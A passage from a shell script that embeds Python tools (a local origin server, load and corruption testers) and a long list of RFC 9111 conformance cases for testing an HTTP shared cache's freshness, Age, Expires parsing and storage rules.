                        if case.asks:
                            break
                        await asyncio.sleep(0.02)
                    else:
                        raise Failure('the origin is not asked meanwhile')
                judge(case, n, got, case.asks)
            except (Failure, asyncio.TimeoutError, ValueError) as e:
                failures += 1
                failed.append(case)
                print('%s: step %d: %s' % (case.name, n, str(e) or type(e).__name__))
                for a in case.asks:
                    print('    asked: %s %s %s' % (a[0], a[1], ' | '.join('%s: %s' % f for f in a[2])))
                if got:
                    print('    came: %d %s' % (got[0], ' | '.join('%s: %s' % f for f in got[1])))
                break
        if client.writer:
            client.writer.close()


async def main():
    global host, proxy, failures
    server = await asyncio.start_server(origin, '127.0.0.1', 0, backlog=500)
    port = server.sockets[0].getsockname()[1]
    host = 'cache.example' if mode == 'reverse' else '127.0.0.1:%d' % port
    print(port, flush=True)
    proxy = int(await asyncio.get_running_loop().run_in_executor(None, lambda: open(pipe).readline()))
    load()
    some = [c for c in cases if group in (c.group, 'all') and c.only in ('', mode) and word in c.name]
    gate = asyncio.Semaphore(100)
    await asyncio.gather(*[play(c, gate) for c in some])
    if 0 < failures <= 2:       # the index may forget an entry, which looks like a miss; but not the same one again
        again, failures = failed[:], 0
        for case in again:
            case.path = '/%d' % (case.id + 10000)
            await play(case, gate)
    print('%d cases, %d failed' % (len(some), failures))
    sys.stdout.flush()
    os._exit(1 if failures or not some else 0)

asyncio.run(main())
CACHECASE_PY
}

crowd_py() { cat <<'CROWD_PY'
# crowd - an origin of many objects that are known by their names, clients that check them, and damage
#
#   crowd origin                       an object's content follows from its path; it says its port
#   crowd each PORT FROM TO [STEP]     ask for these objects once: so many right, wrong, broken off, hits
#   crowd load PORT COUNT SEED         ask for COUNT objects at random until the proxy is gone
#   crowd change PORT SECONDS          write and read what has versions: none older than what was acknowledged may come
#   crowd damage DIR SEED              flip an octet, cut, or exchange: each entry below DIR
import asyncio, glob, hashlib, http.client, random, sys, threading, time


def content(path):
    n = int(path.rsplit('/', 1)[1])
    return hashlib.shake_128(path.encode()).digest([0, 1, 100, 1000, 4096, 20000, 70000, 200000][n % 8] + n % 1000)


versions = {}


async def change(head, path, writer):
    if head.startswith(b'PUT'):
        versions[path] = versions.get(path, 0) + 1
    body = b'%d' % versions.get(path, 0)
    out = b'HTTP/1.1 200 OK\r\nCache-Control: max-age=1000\r\nContent-Length: %d\r\n\r\n' % len(body)
    writer.write(out)
    await asyncio.sleep(random.random() * 0.02)
    writer.write(body)


async def serve(reader, writer):
    try:
        while True:
            head = await reader.readuntil(b'\r\n\r\n')
            path = head.split()[1].decode()
            if path.startswith('http://'):
                path = '/' + path.split('/', 3)[3]
            if path.startswith('/v/'):
                await change(head, path, writer)
                continue
            body = content(path)
            out = b'HTTP/1.1 200 OK\r\nCache-Control: max-age=10000\r\nETag: "%s"\r\nX-Path: %s\r\n' % (hashlib.md5(body).hexdigest().encode(), path.encode())
            if int(path.rsplit('/', 1)[1]) % 5 == 4:
                out += b'Transfer-Encoding: chunked\r\n\r\n'
                for i in range(0, len(body), 3000):
                    part = body[i:i + 3000]
                    out += b'%x\r\n%s\r\n' % (len(part), part)
                out += b'0\r\n\r\n'
            else:
                out += b'Content-Length: %d\r\n\r\n' % len(body) + body
            writer.write(out)
            await writer.drain()
    except (asyncio.IncompleteReadError, ConnectionError):
        pass
    finally:
        writer.close()


async def origin():
    server = await asyncio.start_server(serve, '127.0.0.1', 0, backlog=500)
    print(server.sockets[0].getsockname()[1], flush=True)
    await server.serve_forever()


tally = {'right': 0, 'wrong': 0, 'broken': 0, 'hits': 0}


def ask(connection, path):
    """False: there is no connection any more"""
    try:
        connection.request('GET', path, headers={'Host': 'crowd.example'})
        answer = connection.getresponse()
        body = answer.read()
    except (http.client.HTTPException, OSError):
        tally['broken'] += 1
        connection.close()
        return False
    good = answer.status == 200 and body == content(path) and answer.getheader('X-Path') == path
    tally['right' if good else 'wrong'] += 1
    tally['hits'] += 'proxy; hit' in (answer.getheader('Cache-Status') or '')
    if not good:
        print('wrong: %s: %d, %d octets of %d, X-Path %s, %s' % (path, answer.status, len(body), len(content(path)),
            answer.getheader('X-Path'), answer.getheader('Cache-Status')))
    return True


def client(port, count, chance):
    connection = http.client.HTTPConnection('127.0.0.1', port, timeout=10)
    while True:
        if not ask(connection, '/%d' % chance.randrange(count)):
            try:
                connection.connect()
            except OSError:
                return


acknowledged = [0] * 4


def change_and_read(port, until, writing):
    connection = http.client.HTTPConnection('127.0.0.1', port, timeout=10)
    while time.time() < until:
        n = random.randrange(4)
        least = acknowledged[n]
        connection.request('PUT' if writing else 'GET', '/v/%d' % n, headers={'Host': 'crowd.example'})
        answer = connection.getresponse()
        version = int(answer.read())
        if writing:
            acknowledged[n] = max(acknowledged[n], version)
            time.sleep(random.random() * 0.05)
        else:
            tally['hits'] += 'proxy; hit' in (answer.getheader('Cache-Status') or '')
            tally['right' if version >= least else 'wrong'] += 1
            if version < least:
                print('version %d after %d was acknowledged: %s' % (version, least, answer.getheader('Cache-Status')))


def damage(where, chance):
    names = sorted(glob.glob(where + '/??/*'))
    chance.shuffle(names)
    for i, name in enumerate(names):
        data = open(name, 'rb').read()
        kind = i % 4
        if kind == 0:
            at = chance.randrange(len(data))
            data = data[:at] + bytes([data[at] ^ 1 << chance.randrange(8)]) + data[at + 1:]
        elif kind == 1:
            data = data[:chance.randrange(len(data))]
        elif kind == 2 and i + 1 < len(names):
            other = open(names[i + 1], 'rb').read()
            open(names[i + 1], 'wb').write(data)
            data = other
            names[i + 1], name = name, names[i]
        elif kind == 3:
            data += b'x' * chance.randrange(1, 100)
            if chance.randrange(2):
                data = data[:chance.randrange(len(data))] + b'\0' * 100
        open(name, 'wb').write(data)
    print('%d damaged' % len(names))


word = sys.argv[1]
if word == 'origin':
    asyncio.run(origin())
elif word == 'damage':
    damage(sys.argv[2], random.Random(sys.argv[3]))
elif word == 'each':
    connection = http.client.HTTPConnection('127.0.0.1', int(sys.argv[2]), timeout=15)
    for n in range(int(sys.argv[3]), int(sys.argv[4]), int((sys.argv + ['1'])[5])):
        ask(connection, '/%d' % n)
elif word == 'load':
    crowd = [threading.Thread(target=client, args=(int(sys.argv[2]), int(sys.argv[3]), random.Random(sys.argv[4] + str(i)))) for i in range(6)]
    for c in crowd:
        c.start()
    for c in crowd:
        c.join()
elif word == 'change':
    crowd = [threading.Thread(target=change_and_read, args=(int(sys.argv[2]), time.time() + float(sys.argv[3]), i < 2)) for i in range(8)]
    for c in crowd:
        c.start()
    for c in crowd:
        c.join()
if word in ('each', 'load', 'change'):
    print(' '.join('%d %s' % (v, k) for k, v in tally.items()))
CROWD_PY
}

cache_cases() { cat <<'CACHE_CASES'
# What RFC 9111 and its neighbours ask of a shared cache, a case each; the syntax is at the top of cachecase.
:group freshness
# ---- freshness lifetime (9111, 4.2.1; 5.2.2; 5.3) ----
fresh max-age makes fresh (4.2.1; 5.2.2.1) :: Cache-Control: max-age=100
fresh s-maxage makes fresh (5.2.2.10) :: Cache-Control: s-maxage=100
fresh Expires makes fresh (5.3) :: Expires: {+100}
fresh s-maxage counts before max-age (4.2.1) :: Cache-Control: max-age=1, s-maxage=100 | Age: 10
stale s-maxage counts before max-age, downwards (4.2.1) :: Cache-Control: s-maxage=1, max-age=100 | Age: 10
stale s-maxage=0 counts before max-age (4.2.1) :: Cache-Control: s-maxage=0, max-age=100
fresh s-maxage counts before Expires (5.3) :: Cache-Control: s-maxage=100 | Expires: {-100}
stale s-maxage=0 counts before Expires (5.3) :: Cache-Control: s-maxage=0 | Expires: {+100}
fresh max-age counts before Expires (5.3) :: Cache-Control: max-age=100 | Expires: {-100}
fresh max-age counts before an Expires that is no date (5.3) :: Cache-Control: max-age=100 | Expires: 0
stale max-age=0 counts before Expires (5.3) :: Cache-Control: max-age=0 | Expires: {+100}
stale max-age=1 counts before Expires (5.3) :: Cache-Control: max-age=1 | Expires: {+100} | Age: 10
stale max-age=0 counts before the heuristic (4.2.2) :: Cache-Control: max-age=0 | Last-Modified: {-1000000}
stale a past Expires counts before the heuristic (4.2.2) :: Expires: {-100} | Last-Modified: {-1000000}
stale an Expires that is no date counts before the heuristic (4.2.2; 5.3) :: Expires: 0 | Last-Modified: {-1000000}
stale nothing says how long (4.2.1) :: X-A: 1
stale a validator alone is no freshness (4.2.1) :: ETag: "a"
stale public alone is no freshness (4.2.1; 5.2.2.9) :: Cache-Control: public
stale Expires is past (5.3) :: Expires: {-100}
stale Expires is Date (4.2.1) :: Expires: {0} | Date: {0}
stale Expires is before Date, both to come (4.2.1) :: Expires: {+500} | Date: {+1000}
stale Expires is past and before a slow Date (4.2.1) :: Expires: {-1500} | Date: {-1000}
fresh Expires is measured from a Date that is ahead (4.2.1) :: Expires: {+1100} | Date: {+1000}
fresh Expires is measured from a Date that is behind (4.2.1) :: Expires: {+100} | Date: {-100}
stale a Date that is behind ages what Expires said (4.2.3) :: Expires: {-100} | Date: {-500}
fresh a Date that cannot be read is the time received (4.2.1) :: Expires: {+100} | Date: soon
stale a Date that cannot be read does not help a past Expires (4.2.1) :: Expires: {-100} | Date: soon
fresh no Date is the time received (4.2.1; 9110, 6.6.1) :: Expires: {+100} | -Date
# ---- age (9111, 4.2.3) ----
fresh an Age below the lifetime (4.2.3) :: Cache-Control: max-age=100 | Age: 50
stale an Age beyond the lifetime (4.2.3) :: Cache-Control: max-age=100 | Age: 200
stale an Age of the lifetime (4.2) :: Cache-Control: max-age=100 | Age: 100
stale an Age beyond s-maxage (4.2.3) :: Cache-Control: s-maxage=100, max-age=1000 | Age: 200
stale an Age beyond Expires (4.2.3) :: Expires: {+100} | Age: 200
fresh a Date a little behind is age (4.2.3) :: Cache-Control: max-age=100 | Date: {-50}
stale a Date far behind is age (4.2.3) :: Cache-Control: max-age=100 | Date: {-200}
fresh a Date ahead is no age (4.2.3) :: Cache-Control: max-age=100 | Date: {+1000}
stale a Date ahead does not take an Age away (4.2.3) :: Cache-Control: max-age=100 | Date: {+1000} | Age: 200
stale the greater of Age and Date counts, Age (4.2.3) :: Cache-Control: max-age=100 | Date: {-50} | Age: 200
stale the greater of Age and Date counts, Date (4.2.3) :: Cache-Control: max-age=100 | Date: {-200} | Age: 50
stale a Date of the last second before 1970 is age (4.2.3) :: Cache-Control: max-age=100 | Date: Wed, 31 Dec 1969 23:59:59 GMT
stale a Date long before 1970 is age (4.2.3) :: Cache-Control: max-age=100 | Date: Sat, 01 Jan 1600 00:00:00 GMT
fresh a Date ahead by thousands of years is no age (4.2.3) :: Cache-Control: max-age=100 | Date: Fri, 31 Dec 9999 23:59:59 GMT
fresh Age and Date are not added up (4.2.3) :: Cache-Control: max-age=100 | Date: {-70} | Age: 70
case the time on the way is age (4.2.3)
>
< Cache-Control: max-age=2 | -Date | nap=2.2
= miss
>
= asked
case what was fresh becomes stale (4.2)
>
< Cache-Control: max-age=2
= miss
>
= hit
~ 2.1
>
= asked
case what was fresh becomes stale by Age (4.2.3)
>
< Cache-Control: max-age=100 | Age: 98
= miss
~ 2.1
>
= asked
# ---- numbers (9111, 1.2.2; 4.2.1) ----
fresh max-age of 2^31-1 (1.2.2) :: Cache-Control: max-age=2147483647
fresh max-age of 2^31 (1.2.2) :: Cache-Control: max-age=2147483648
fresh max-age of 2^32 (1.2.2) :: Cache-Control: max-age=4294967296
fresh max-age of 2^32+1 (1.2.2) :: Cache-Control: max-age=4294967297
fresh max-age of 2^64 (1.2.2) :: Cache-Control: max-age=18446744073709551616
fresh max-age of twenty-six digits (1.2.2) :: Cache-Control: max-age=99999999999999999999999999
fresh s-maxage of 2^32 (1.2.2) :: Cache-Control: s-maxage=4294967296
fresh leading zeros (1.2.2) :: Cache-Control: max-age=000000000000000000000000100
stale an Age of 2^31 (1.2.2; 5.1) :: Cache-Control: max-age=100 | Age: 2147483648
stale an Age of 2^32 (1.2.2; 5.1) :: Cache-Control: max-age=100 | Age: 4294967296
stale an Age of twenty-six digits (1.2.2; 5.1) :: Cache-Control: max-age=100 | Age: 99999999999999999999999999
stale an Age beyond any lifetime (1.2.2) :: Cache-Control: max-age=99999999999 | Age: 99999999999
case Expires of any time is of 2^31-1 seconds at most (1.2.2)
>
< Expires: Fri, 31 Dec 9999 23:59:59 GMT
= miss
>
= hit | Cache-Status ~ ttl=214748364[0-9]$
case a heuristic is of 2^31-1 seconds at most (1.2.2; 4.2.2)
>
< Date: Fri, 31 Dec 9999 23:59:59 GMT | Last-Modified: Thu, 01 Jan 1970 00:00:00 GMT
= miss
>
= hit | Cache-Status ~ ttl=214748364[0-9]$
stale max-age=0 (4.2.1) :: Cache-Control: max-age=0
stale max-age=00 (4.2.1) :: Cache-Control: max-age=00
stale s-maxage=0 (4.2.1) :: Cache-Control: s-maxage=0
stale a negative max-age (4.2.1) :: Cache-Control: max-age=-100
stale a negative s-maxage (4.2.1) :: Cache-Control: s-maxage=-100
stale max-age with a plus (4.2.1) :: Cache-Control: max-age=+100
stale a fraction (4.2.1) :: Cache-Control: max-age=100.5
stale max-age without a value (4.2.1) :: Cache-Control: max-age
stale max-age with an empty value (4.2.1) :: Cache-Control: max-age=
stale max-age of letters (4.2.1) :: Cache-Control: max-age=abc
stale max-age with letters behind (4.2.1) :: Cache-Control: max-age=100a
stale a bad max-age does not give way to Expires (4.2.1) :: Cache-Control: max-age=abc | Expires: {+100}
stale the first of two max-age or stale, never the second (4.2.1) :: Cache-Control: max-age=1, max-age=100 | Age: 10
stale the same on two lines (4.2.1) :: Cache-Control: max-age=1 | Cache-Control: max-age=100 | Age: 10
# ---- directives: syntax (9111, 5.2) ----
fresh MAX-AGE in capitals (5.2) :: Cache-Control: MAX-AGE=100
fresh S-MaxAge (5.2) :: Cache-Control: S-MaxAge=100
fresh a field name in lower case (9110, 5.1) :: cache-control: max-age=100
fresh a quoted value (5.2) :: Cache-Control: max-age="100"
stale single quotes are no quotes (5.2) :: Cache-Control: max-age='100'
fresh empty members (9110, 5.6.1) :: Cache-Control: , ,max-age=100,,
fresh no blanks (9110, 5.6.1) :: Cache-Control: public,max-age=100
fresh blanks and tabs (9110, 5.6.1) :: Cache-Control: public  , 	max-age=100	
fresh lines are joined (9110, 5.3) :: Cache-Control: public | Cache-Control: max-age=100
stale lines are joined, downwards (9110, 5.3) :: Cache-Control: max-age=100 | Cache-Control: no-store
fresh unknown directives are skipped (5.2.3) :: Cache-Control: foo, bar=baz, max-age=100, qux="1, 2"
fresh what is quoted is no directive (5.2) :: Cache-Control: foo="no-store, max-age=0, private", max-age=100
fresh an escaped quote ends no string (5.2) :: Cache-Control: foo="\", no-store, \"", max-age=100
stale a quoted max-age is none (5.2) :: Cache-Control: foo="max-age=100"
stale a name that ends so is another (5.2) :: Cache-Control: x-max-age=100
stale a name that begins so is another (5.2) :: Cache-Control: max-age-x=100
fresh no-storex is not no-store (5.2) :: Cache-Control: max-age=100, no-storex, xprivate, no-cache-foo

:group age
# ---- Age received (9111, 5.1) ----
stale the first member of a list (5.1) :: Cache-Control: max-age=100 | Age: 200, 0
fresh the first member of a list, the lesser (5.1) :: Cache-Control: max-age=100 | Age: 0, 200
stale the first of two lines (5.1) :: Cache-Control: max-age=100 | Age: 200 | Age: 0
fresh the first of two lines, the lesser (5.1) :: Cache-Control: max-age=100 | Age: 0 | Age: 200
fresh letters are ignored (5.1) :: Cache-Control: max-age=100 | Age: abc
fresh letters and a later member are ignored (5.1) :: Cache-Control: max-age=100 | Age: abc, 200
fresh digits with letters behind are ignored (5.1) :: Cache-Control: max-age=100 | Age: 200a
fresh a negative Age is ignored (5.1) :: Cache-Control: max-age=100 | Age: -200
fresh a fraction is ignored (5.1) :: Cache-Control: max-age=100 | Age: 200.5
fresh a quoted Age is ignored (5.1) :: Cache-Control: max-age=100 | Age: "200"
fresh an empty Age is ignored (5.1) :: Cache-Control: max-age=100 | Age:
stale leading zeros (5.1) :: Cache-Control: max-age=100 | Age: 000200
stale the first member, whatever follows (5.1) :: Cache-Control: max-age=100 | Age: 200, abc
# ---- Age and Date sent (9111, 4; 5.1) ----
case a hit has an Age (4)
>
< Cache-Control: max-age=100
= miss
>
= hit | Age: 0..1
case Age grows from the Age received (4.2.3; 5.1)
>
< Cache-Control: max-age=100 | Age: 50
= miss
~ 2.1
>
= hit | Age: 52..54
case Age grows from a Date behind (4.2.3)
>
< Cache-Control: max-age=100 | Date: {-30}
= miss
>
= hit | Age: 30..32
case Age grows with the time here (4.2.3)
>
< Cache-Control: max-age=100
= miss
~ 2.1
>
= hit | Age: 2..4
case a hit has one Age (5.1)
>
< Cache-Control: max-age=100 | Age: 5 | Age: 7
= miss
>
= hit | Age: 5..7
case a Date ahead gives no negative Age (4.2.3)
>
< Cache-Control: max-age=100 | Date: {+500}
= miss
>
= hit | Age: 0..1
case what a 304 forbids to store is not stored any more (3; 4.3.4)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a"
= miss
>
< 304 | Cache-Control: private, max-age=100 | ETag: "a"
= validated
>
< Cache-Control: no-store | body=new
= asked | body=new
case a validated answer is young again (4.2.3)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a"
= miss
>
< 304 | Cache-Control: max-age=100 | ETag: "a"
= validated
>
= hit | Age: 0..2
case Date is never written anew (9110, 6.6.1)
>
< Cache-Control: max-age=100 | Date: {-20}
= miss | Date: {-20}
~ 1.1
>
= hit | Date: {-20}
case a Date ahead stays (9110, 6.6.1)
>
< Cache-Control: max-age=100 | Date: {+20}
= miss
>
= hit | Date: {+20}
case what has no Date gets the time received (9110, 6.6.1)
>
< Cache-Control: max-age=100 | -Date
= miss | Date ~ GMT$
>
= hit | Date ~ GMT$
case Expires is sent as it came (5.3)
>
< Expires: {+100}
= miss
>
= hit | Expires: {+100}

:group expires
# ---- Expires: the grammar of dates (9111, 4.2; 5.3; 9110, 5.6.7) ----
fresh IMF-fixdate :: Expires: Thu, 18 Aug 2050 02:01:18 GMT
fresh RFC 850 :: Expires: Thursday, 18-Aug-50 02:01:18 GMT
fresh RFC 850, tomorrow :: Expires: {+86400 %A, %d-%b-%y %H:%M:%S GMT}
stale RFC 850, more than fifty years ahead is past (9110, 5.6.7) :: Expires: Sunday, 06-Nov-94 08:49:37 GMT
fresh a year of many days (4.2) :: Expires: Fri, 31 Dec 9999 23:59:59 GMT
fresh a time beyond 2^32 seconds :: Expires: Mon, 01 Jan 2120 00:00:00 GMT
stale the beginning of time :: Expires: Thu, 01 Jan 1970 00:00:00 GMT
stale before the beginning of time :: Expires: Sat, 01 Jan 1600 00:00:00 GMT
fresh asctime :: Expires: Thu Aug 18 02:01:18 2050
fresh asctime, a day of one digit :: Expires: Mon Aug  8 02:01:18 2050
fresh capitals :: Expires: THU, 18 AUG 2050 02:01:18 GMT
fresh small letters :: Expires: thu, 18 aug 2050 02:01:18 gmt
fresh mixed letters :: Expires: tHU, 18 aUG 2050 02:01:18 gMt
stale UTC :: Expires: Thu, 18 Aug 2050 02:01:18 UTC
stale a zone of digits :: Expires: Thu, 18 Aug 2050 02:01:18 +0000
stale a zone's name :: Expires: Thu, 18 Aug 2050 02:01:18 AEST
stale no zone :: Expires: Thu, 18 Aug 2050 02:01:18
stale two digits of a year :: Expires: Thu, 18 Aug 50 02:01:18 GMT
stale no comma :: Expires: Thu 18 Aug 2050 02:01:18 GMT
stale no weekday :: Expires: 18 Aug 2050 02:01:18 GMT
stale two spaces after the weekday :: Expires: Thu,  18 Aug 2050 02:01:18 GMT
stale two spaces before the year :: Expires: Thu, 18 Aug  2050 02:01:18 GMT
stale two spaces before the time :: Expires: Thu, 18 Aug 2050  02:01:18 GMT
stale dashes :: Expires: Thu, 18-Aug-2050 02:01:18 GMT
stale dots in the time :: Expires: Thu, 18 Aug 2050 02.01.18 GMT
stale an hour of one digit :: Expires: Thu, 18 Aug 2050 2:01:18 GMT
stale a day of one digit :: Expires: Mon, 8 Aug 2050 02:01:18 GMT
stale a month's number :: Expires: Thu, 18 08 2050 02:01:18 GMT
stale hour 25 :: Expires: Thu, 18 Aug 2050 25:01:18 GMT
stale minute 60 :: Expires: Thu, 18 Aug 2050 02:60:18 GMT
stale day 32 :: Expires: Thu, 32 Aug 2050 02:01:18 GMT
stale something behind :: Expires: Thu, 18 Aug 2050 02:01:18 GMT foo
stale two lines :: Expires: Thu, 18 Aug 2050 02:01:18 GMT | Expires: Thu, 18 Aug 2050 02:01:20 GMT
stale two lines, the first past :: Expires: {-100} | Expires: {+100}
stale two dates on a line :: Expires: Thu, 18 Aug 2050 02:01:18 GMT, Thu, 18 Aug 2050 02:01:20 GMT
stale 0 (5.3) :: Expires: 0
stale -1 :: Expires: -1
stale a number of seconds :: Expires: 100
stale empty :: Expires:
stale ISO 8601 :: Expires: 2050-08-18T02:01:18Z
fresh the weekday is not reckoned with (9110, 5.6.7) :: Expires: Mon, 18 Aug 2050 02:01:18 GMT
stale a weekday there is not :: Expires: Foo, 18 Aug 2050 02:01:18 GMT
stale a long weekday in fixdate :: Expires: Thursday, 18 Aug 2050 02:01:18 GMT
stale a month there is not :: Expires: Thu, 18 Foo 2050 02:01:18 GMT
stale a long month :: Expires: Thu, 18 August 2050 02:01:18 GMT
stale day 0 :: Expires: Thu, 00 Aug 2050 02:01:18 GMT
stale 31 April :: Expires: Thu, 31 Apr 2050 02:01:18 GMT
stale 30 February :: Expires: Thu, 30 Feb 2052 02:01:18 GMT
fresh 29 February of a leap year :: Expires: Thu, 29 Feb 2052 02:01:18 GMT
stale 29 February of another year :: Expires: Thu, 29 Feb 2051 02:01:18 GMT
stale 29 February of 2100 :: Expires: Mon, 29 Feb 2100 02:01:18 GMT
fresh 29 February of 2400 :: Expires: Tue, 29 Feb 2400 02:01:18 GMT
stale hour 24 :: Expires: Thu, 18 Aug 2050 24:00:00 GMT
fresh a leap second :: Expires: Thu, 18 Aug 2050 23:59:60 GMT
stale second 61 :: Expires: Thu, 18 Aug 2050 23:59:61 GMT
stale a sign for a digit :: Expires: Thu, 18 Aug +050 02:01:18 GMT
stale a tab for a space :: Expires: Thu,	18 Aug 2050 02:01:18 GMT
stale quoted :: Expires: "Thu, 18 Aug 2050 02:01:18 GMT"
fresh RFC 850 in capitals :: Expires: THURSDAY, 18-AUG-50 02:01:18 GMT
fresh RFC 850, a little less than fifty years ahead (9110, 5.6.7) :: Expires: {+1577000000 %A, %d-%b-%y %H:%M:%S GMT}
stale RFC 850, a little more than fifty years ahead is past (9110, 5.6.7) :: Expires: {+1578800000 %A, %d-%b-%y %H:%M:%S GMT}
stale RFC 850, a short weekday :: Expires: Thu, 18-Aug-50 02:01:18 GMT
stale RFC 850, four digits of a year :: Expires: Thursday, 18-Aug-2050 02:01:18 GMT
stale RFC 850, UTC :: Expires: Thursday, 18-Aug-50 02:01:18 UTC
stale RFC 850, no comma :: Expires: Thursday 18-Aug-50 02:01:18 GMT
stale RFC 850, spaces for dashes :: Expires: Thursday, 18 Aug 50 02:01:18 GMT
stale RFC 850, a day of one digit :: Expires: Monday, 8-Aug-50 02:01:18 GMT
fresh asctime in capitals :: Expires: THU AUG 18 02:01:18 2050
fresh asctime, a zero before a day of one digit :: Expires: Mon Aug 08 02:01:18 2050
stale asctime, one space before a day of one digit :: Expires: Mon Aug 8 02:01:18 2050
stale asctime, GMT behind :: Expires: Thu Aug 18 02:01:18 2050 GMT
stale asctime, two digits of a year :: Expires: Thu Aug 18 02:01:18 50

:group storing
# ---- what may be stored (9111, 3) ----
none no-store (3; 5.2.2.5) :: Cache-Control: no-store | ETag: "a" | Last-Modified: {-1000000}
none no-store beside max-age (3) :: Cache-Control: max-age=100, no-store
none no-store before max-age (3) :: Cache-Control: no-store, max-age=100
none no-store beside Expires (3) :: Cache-Control: no-store | Expires: {+100}
none NO-STORE (5.2) :: Cache-Control: max-age=100, No-StOrE
none no-store with a value (5.2) :: Cache-Control: max-age=100, no-store=1
none no-store beside public (3) :: Cache-Control: public, max-age=100, no-store
none private (3; 5.2.2.7) :: Cache-Control: private | ETag: "a" | Last-Modified: {-1000000}
none private beside max-age (3) :: Cache-Control: private, max-age=100
none PRIVATE (5.2) :: Cache-Control: max-age=100, PrIvAtE
none private beside s-maxage (3) :: Cache-Control: private, s-maxage=100
none private beside public (3) :: Cache-Control: public, private, max-age=100
case private of a field keeps the field out (5.2.2.7)
>
< Cache-Control: private="X-Mine, x-too", max-age=100 | X-Mine: 1 | X-Too: 1 | X-Ours: 1
= miss | X-Mine: 1 | X-Too: 1
>
= maybe | -X-Mine | -X-Too | X-Ours: 1
case no-cache of a field keeps the field out or validates (5.2.2.4)
>
< Cache-Control: no-cache="X-Mine", max-age=100 | X-Mine: 1 | X-Ours: 1
= miss | X-Mine: 1
>
= maybe | -X-Mine | X-Ours: 1
case a newer no-store leaves what was stored (5.2.2.5)
>
< Cache-Control: max-age=100
= miss
> | Cache-Control: no-cache
< Cache-Control: no-store
= asked
>
= hit
case no-cache is stored and always validated (5.2.2.4)
>
< Cache-Control: no-cache, max-age=100 | ETag: "a"
= miss
>
= validated
>
= validated
case no-cache with a date alone is validated (5.2.2.4)
>
< Cache-Control: no-cache | Last-Modified: {-1000}
= miss
>
= validated
stale no-cache without a validator (5.2.2.4) :: Cache-Control: no-cache, max-age=100
stale no-cache beside s-maxage (5.2.2.4) :: Cache-Control: s-maxage=100, No-Cache
fresh must-understand and a status that is understood override no-store (3; 5.2.2.3) :: Cache-Control: must-understand, no-store, max-age=100
fresh the same in the other order (5.2.2.3) :: Cache-Control: max-age=100, no-store, must-understand
fresh the same of 404 (5.2.2.3) :: 404 | Cache-Control: max-age=100, no-store, must-understand
fresh must-understand alone (5.2.2.3) :: Cache-Control: must-understand, max-age=100
none must-understand and a status that is not understood (3; 5.2.2.3) :: 299 | Cache-Control: must-understand, max-age=100
none the same with no-store (5.2.2.3) :: 299 | Cache-Control: must-understand, no-store, max-age=100
none must-understand does not override private (3) :: Cache-Control: must-understand, private, max-age=100
fresh 200 with explicit freshness (3) :: 200 | Cache-Control: max-age=100
fresh 203 with explicit freshness (3) :: 203 | Cache-Control: max-age=100
fresh 204 with explicit freshness (3) :: 204 | Cache-Control: max-age=100
fresh 299 with explicit freshness (3) :: 299 | Cache-Control: max-age=100
fresh 300 with explicit freshness (3) :: 300 | Cache-Control: max-age=100
fresh 301 with explicit freshness (3) :: 301 | Location: /a | Cache-Control: max-age=100
fresh 302 with explicit freshness (3) :: 302 | Location: /a | Cache-Control: max-age=100
fresh 303 with explicit freshness (3) :: 303 | Location: /a | Cache-Control: max-age=100
fresh 307 with explicit freshness (3) :: 307 | Location: /a | Cache-Control: max-age=100
fresh 308 with explicit freshness (3) :: 308 | Location: /a | Cache-Control: max-age=100
fresh 400 with explicit freshness (3) :: 400 | Cache-Control: max-age=100
fresh 403 with explicit freshness (3) :: 403 | Cache-Control: max-age=100
fresh 404 with explicit freshness (3) :: 404 | Cache-Control: max-age=100
fresh 405 with explicit freshness (3) :: 405 | Cache-Control: max-age=100
fresh 410 with explicit freshness (3) :: 410 | Cache-Control: max-age=100
fresh 414 with explicit freshness (3) :: 414 | Cache-Control: max-age=100
fresh 499 with explicit freshness (3) :: 499 | Cache-Control: max-age=100
fresh 500 with explicit freshness (3) :: 500 | Cache-Control: max-age=100
fresh 501 with explicit freshness (3) :: 501 | Cache-Control: max-age=100
fresh 502 with explicit freshness (3) :: 502 | Cache-Control: max-age=100
fresh 503 with explicit freshness (3) :: 503 | Cache-Control: max-age=100
fresh 504 with explicit freshness (3) :: 504 | Cache-Control: max-age=100
fresh 599 with explicit freshness (3) :: 599 | Cache-Control: max-age=100
fresh 404 by Expires (3) :: 404 | Expires: {+100}
fresh 302 by s-maxage (3) :: 302 | Location: /a | Cache-Control: s-maxage=100
fresh content of no octets (3) :: Cache-Control: max-age=100 | body=
fresh Set-Cookie with explicit freshness (7.3) :: Cache-Control: max-age=100 | Set-Cookie: a=b
stale Set-Cookie without explicit freshness (7.3) :: Last-Modified: {-1000000} | Set-Cookie: a=b
case no-store of a request (3; 5.2.1.5)
> | Cache-Control: no-store
< Cache-Control: max-age=100
= miss
>
= miss
case cookies do not prevent reuse (4)
> | Cookie: a=1
< Cache-Control: max-age=100
= miss
> | Cookie: a=2
= hit
# ---- methods (9111, 3; 4; 9110, 9.2.3) ----
case PUT is not stored (3)
> PUT | body=x
< Cache-Control: max-age=100
= asked
>
= miss
case DELETE is not stored (3)
> DELETE
< Cache-Control: max-age=100
= asked
>
= miss
case PATCH is not stored (3)
> PATCH | body=x
< Cache-Control: max-age=100
= asked
>
= miss
case OPTIONS is not stored (3)
> OPTIONS
< Cache-Control: max-age=100
= asked
> OPTIONS
= asked
>
= miss
case an unknown method is not stored (3)
> FOO
< Cache-Control: max-age=100
= asked
> FOO
= asked
>
= miss
case GET does not answer another method (4)
>
< Cache-Control: max-age=100
= miss
> OPTIONS
= asked
> PROPFIND
= asked
case HEAD does not answer GET (4)
> HEAD
< Cache-Control: max-age=100
= asked
>
= asked
case POST without Content-Location does not answer GET (9110, 9.3.3)
> POST | body=x
< Cache-Control: max-age=100
= asked
>
= miss
case POST without freshness does not answer GET (9110, 9.3.3)
> POST | body=x
< Content-Location: {path} | Last-Modified: {-1000000}
= asked
>
= miss
case POST with another Content-Location does not answer GET (9110, 9.3.3)
> POST | body=x
< Cache-Control: max-age=100 | Content-Location: {path}/b
= asked
>
= miss
case POST with its own Content-Location and freshness answers GET (9110, 9.3.3)
> POST | body=x
< Cache-Control: max-age=100 | Content-Location: {path}
= asked
>
= hit
case POST is never answered by POST (4; 9110, 9.3.3)
> POST | body=x
< Cache-Control: max-age=100 | Content-Location: {path}
= asked
> POST | body=x
= asked
case POST is never answered by GET (4)
>
< Cache-Control: max-age=100
= miss
> POST | body=x
= asked
# ---- the key (9111, 2; 4) ----
case the query is part of the key (4)
> ?a=1
< Cache-Control: max-age=100
= miss
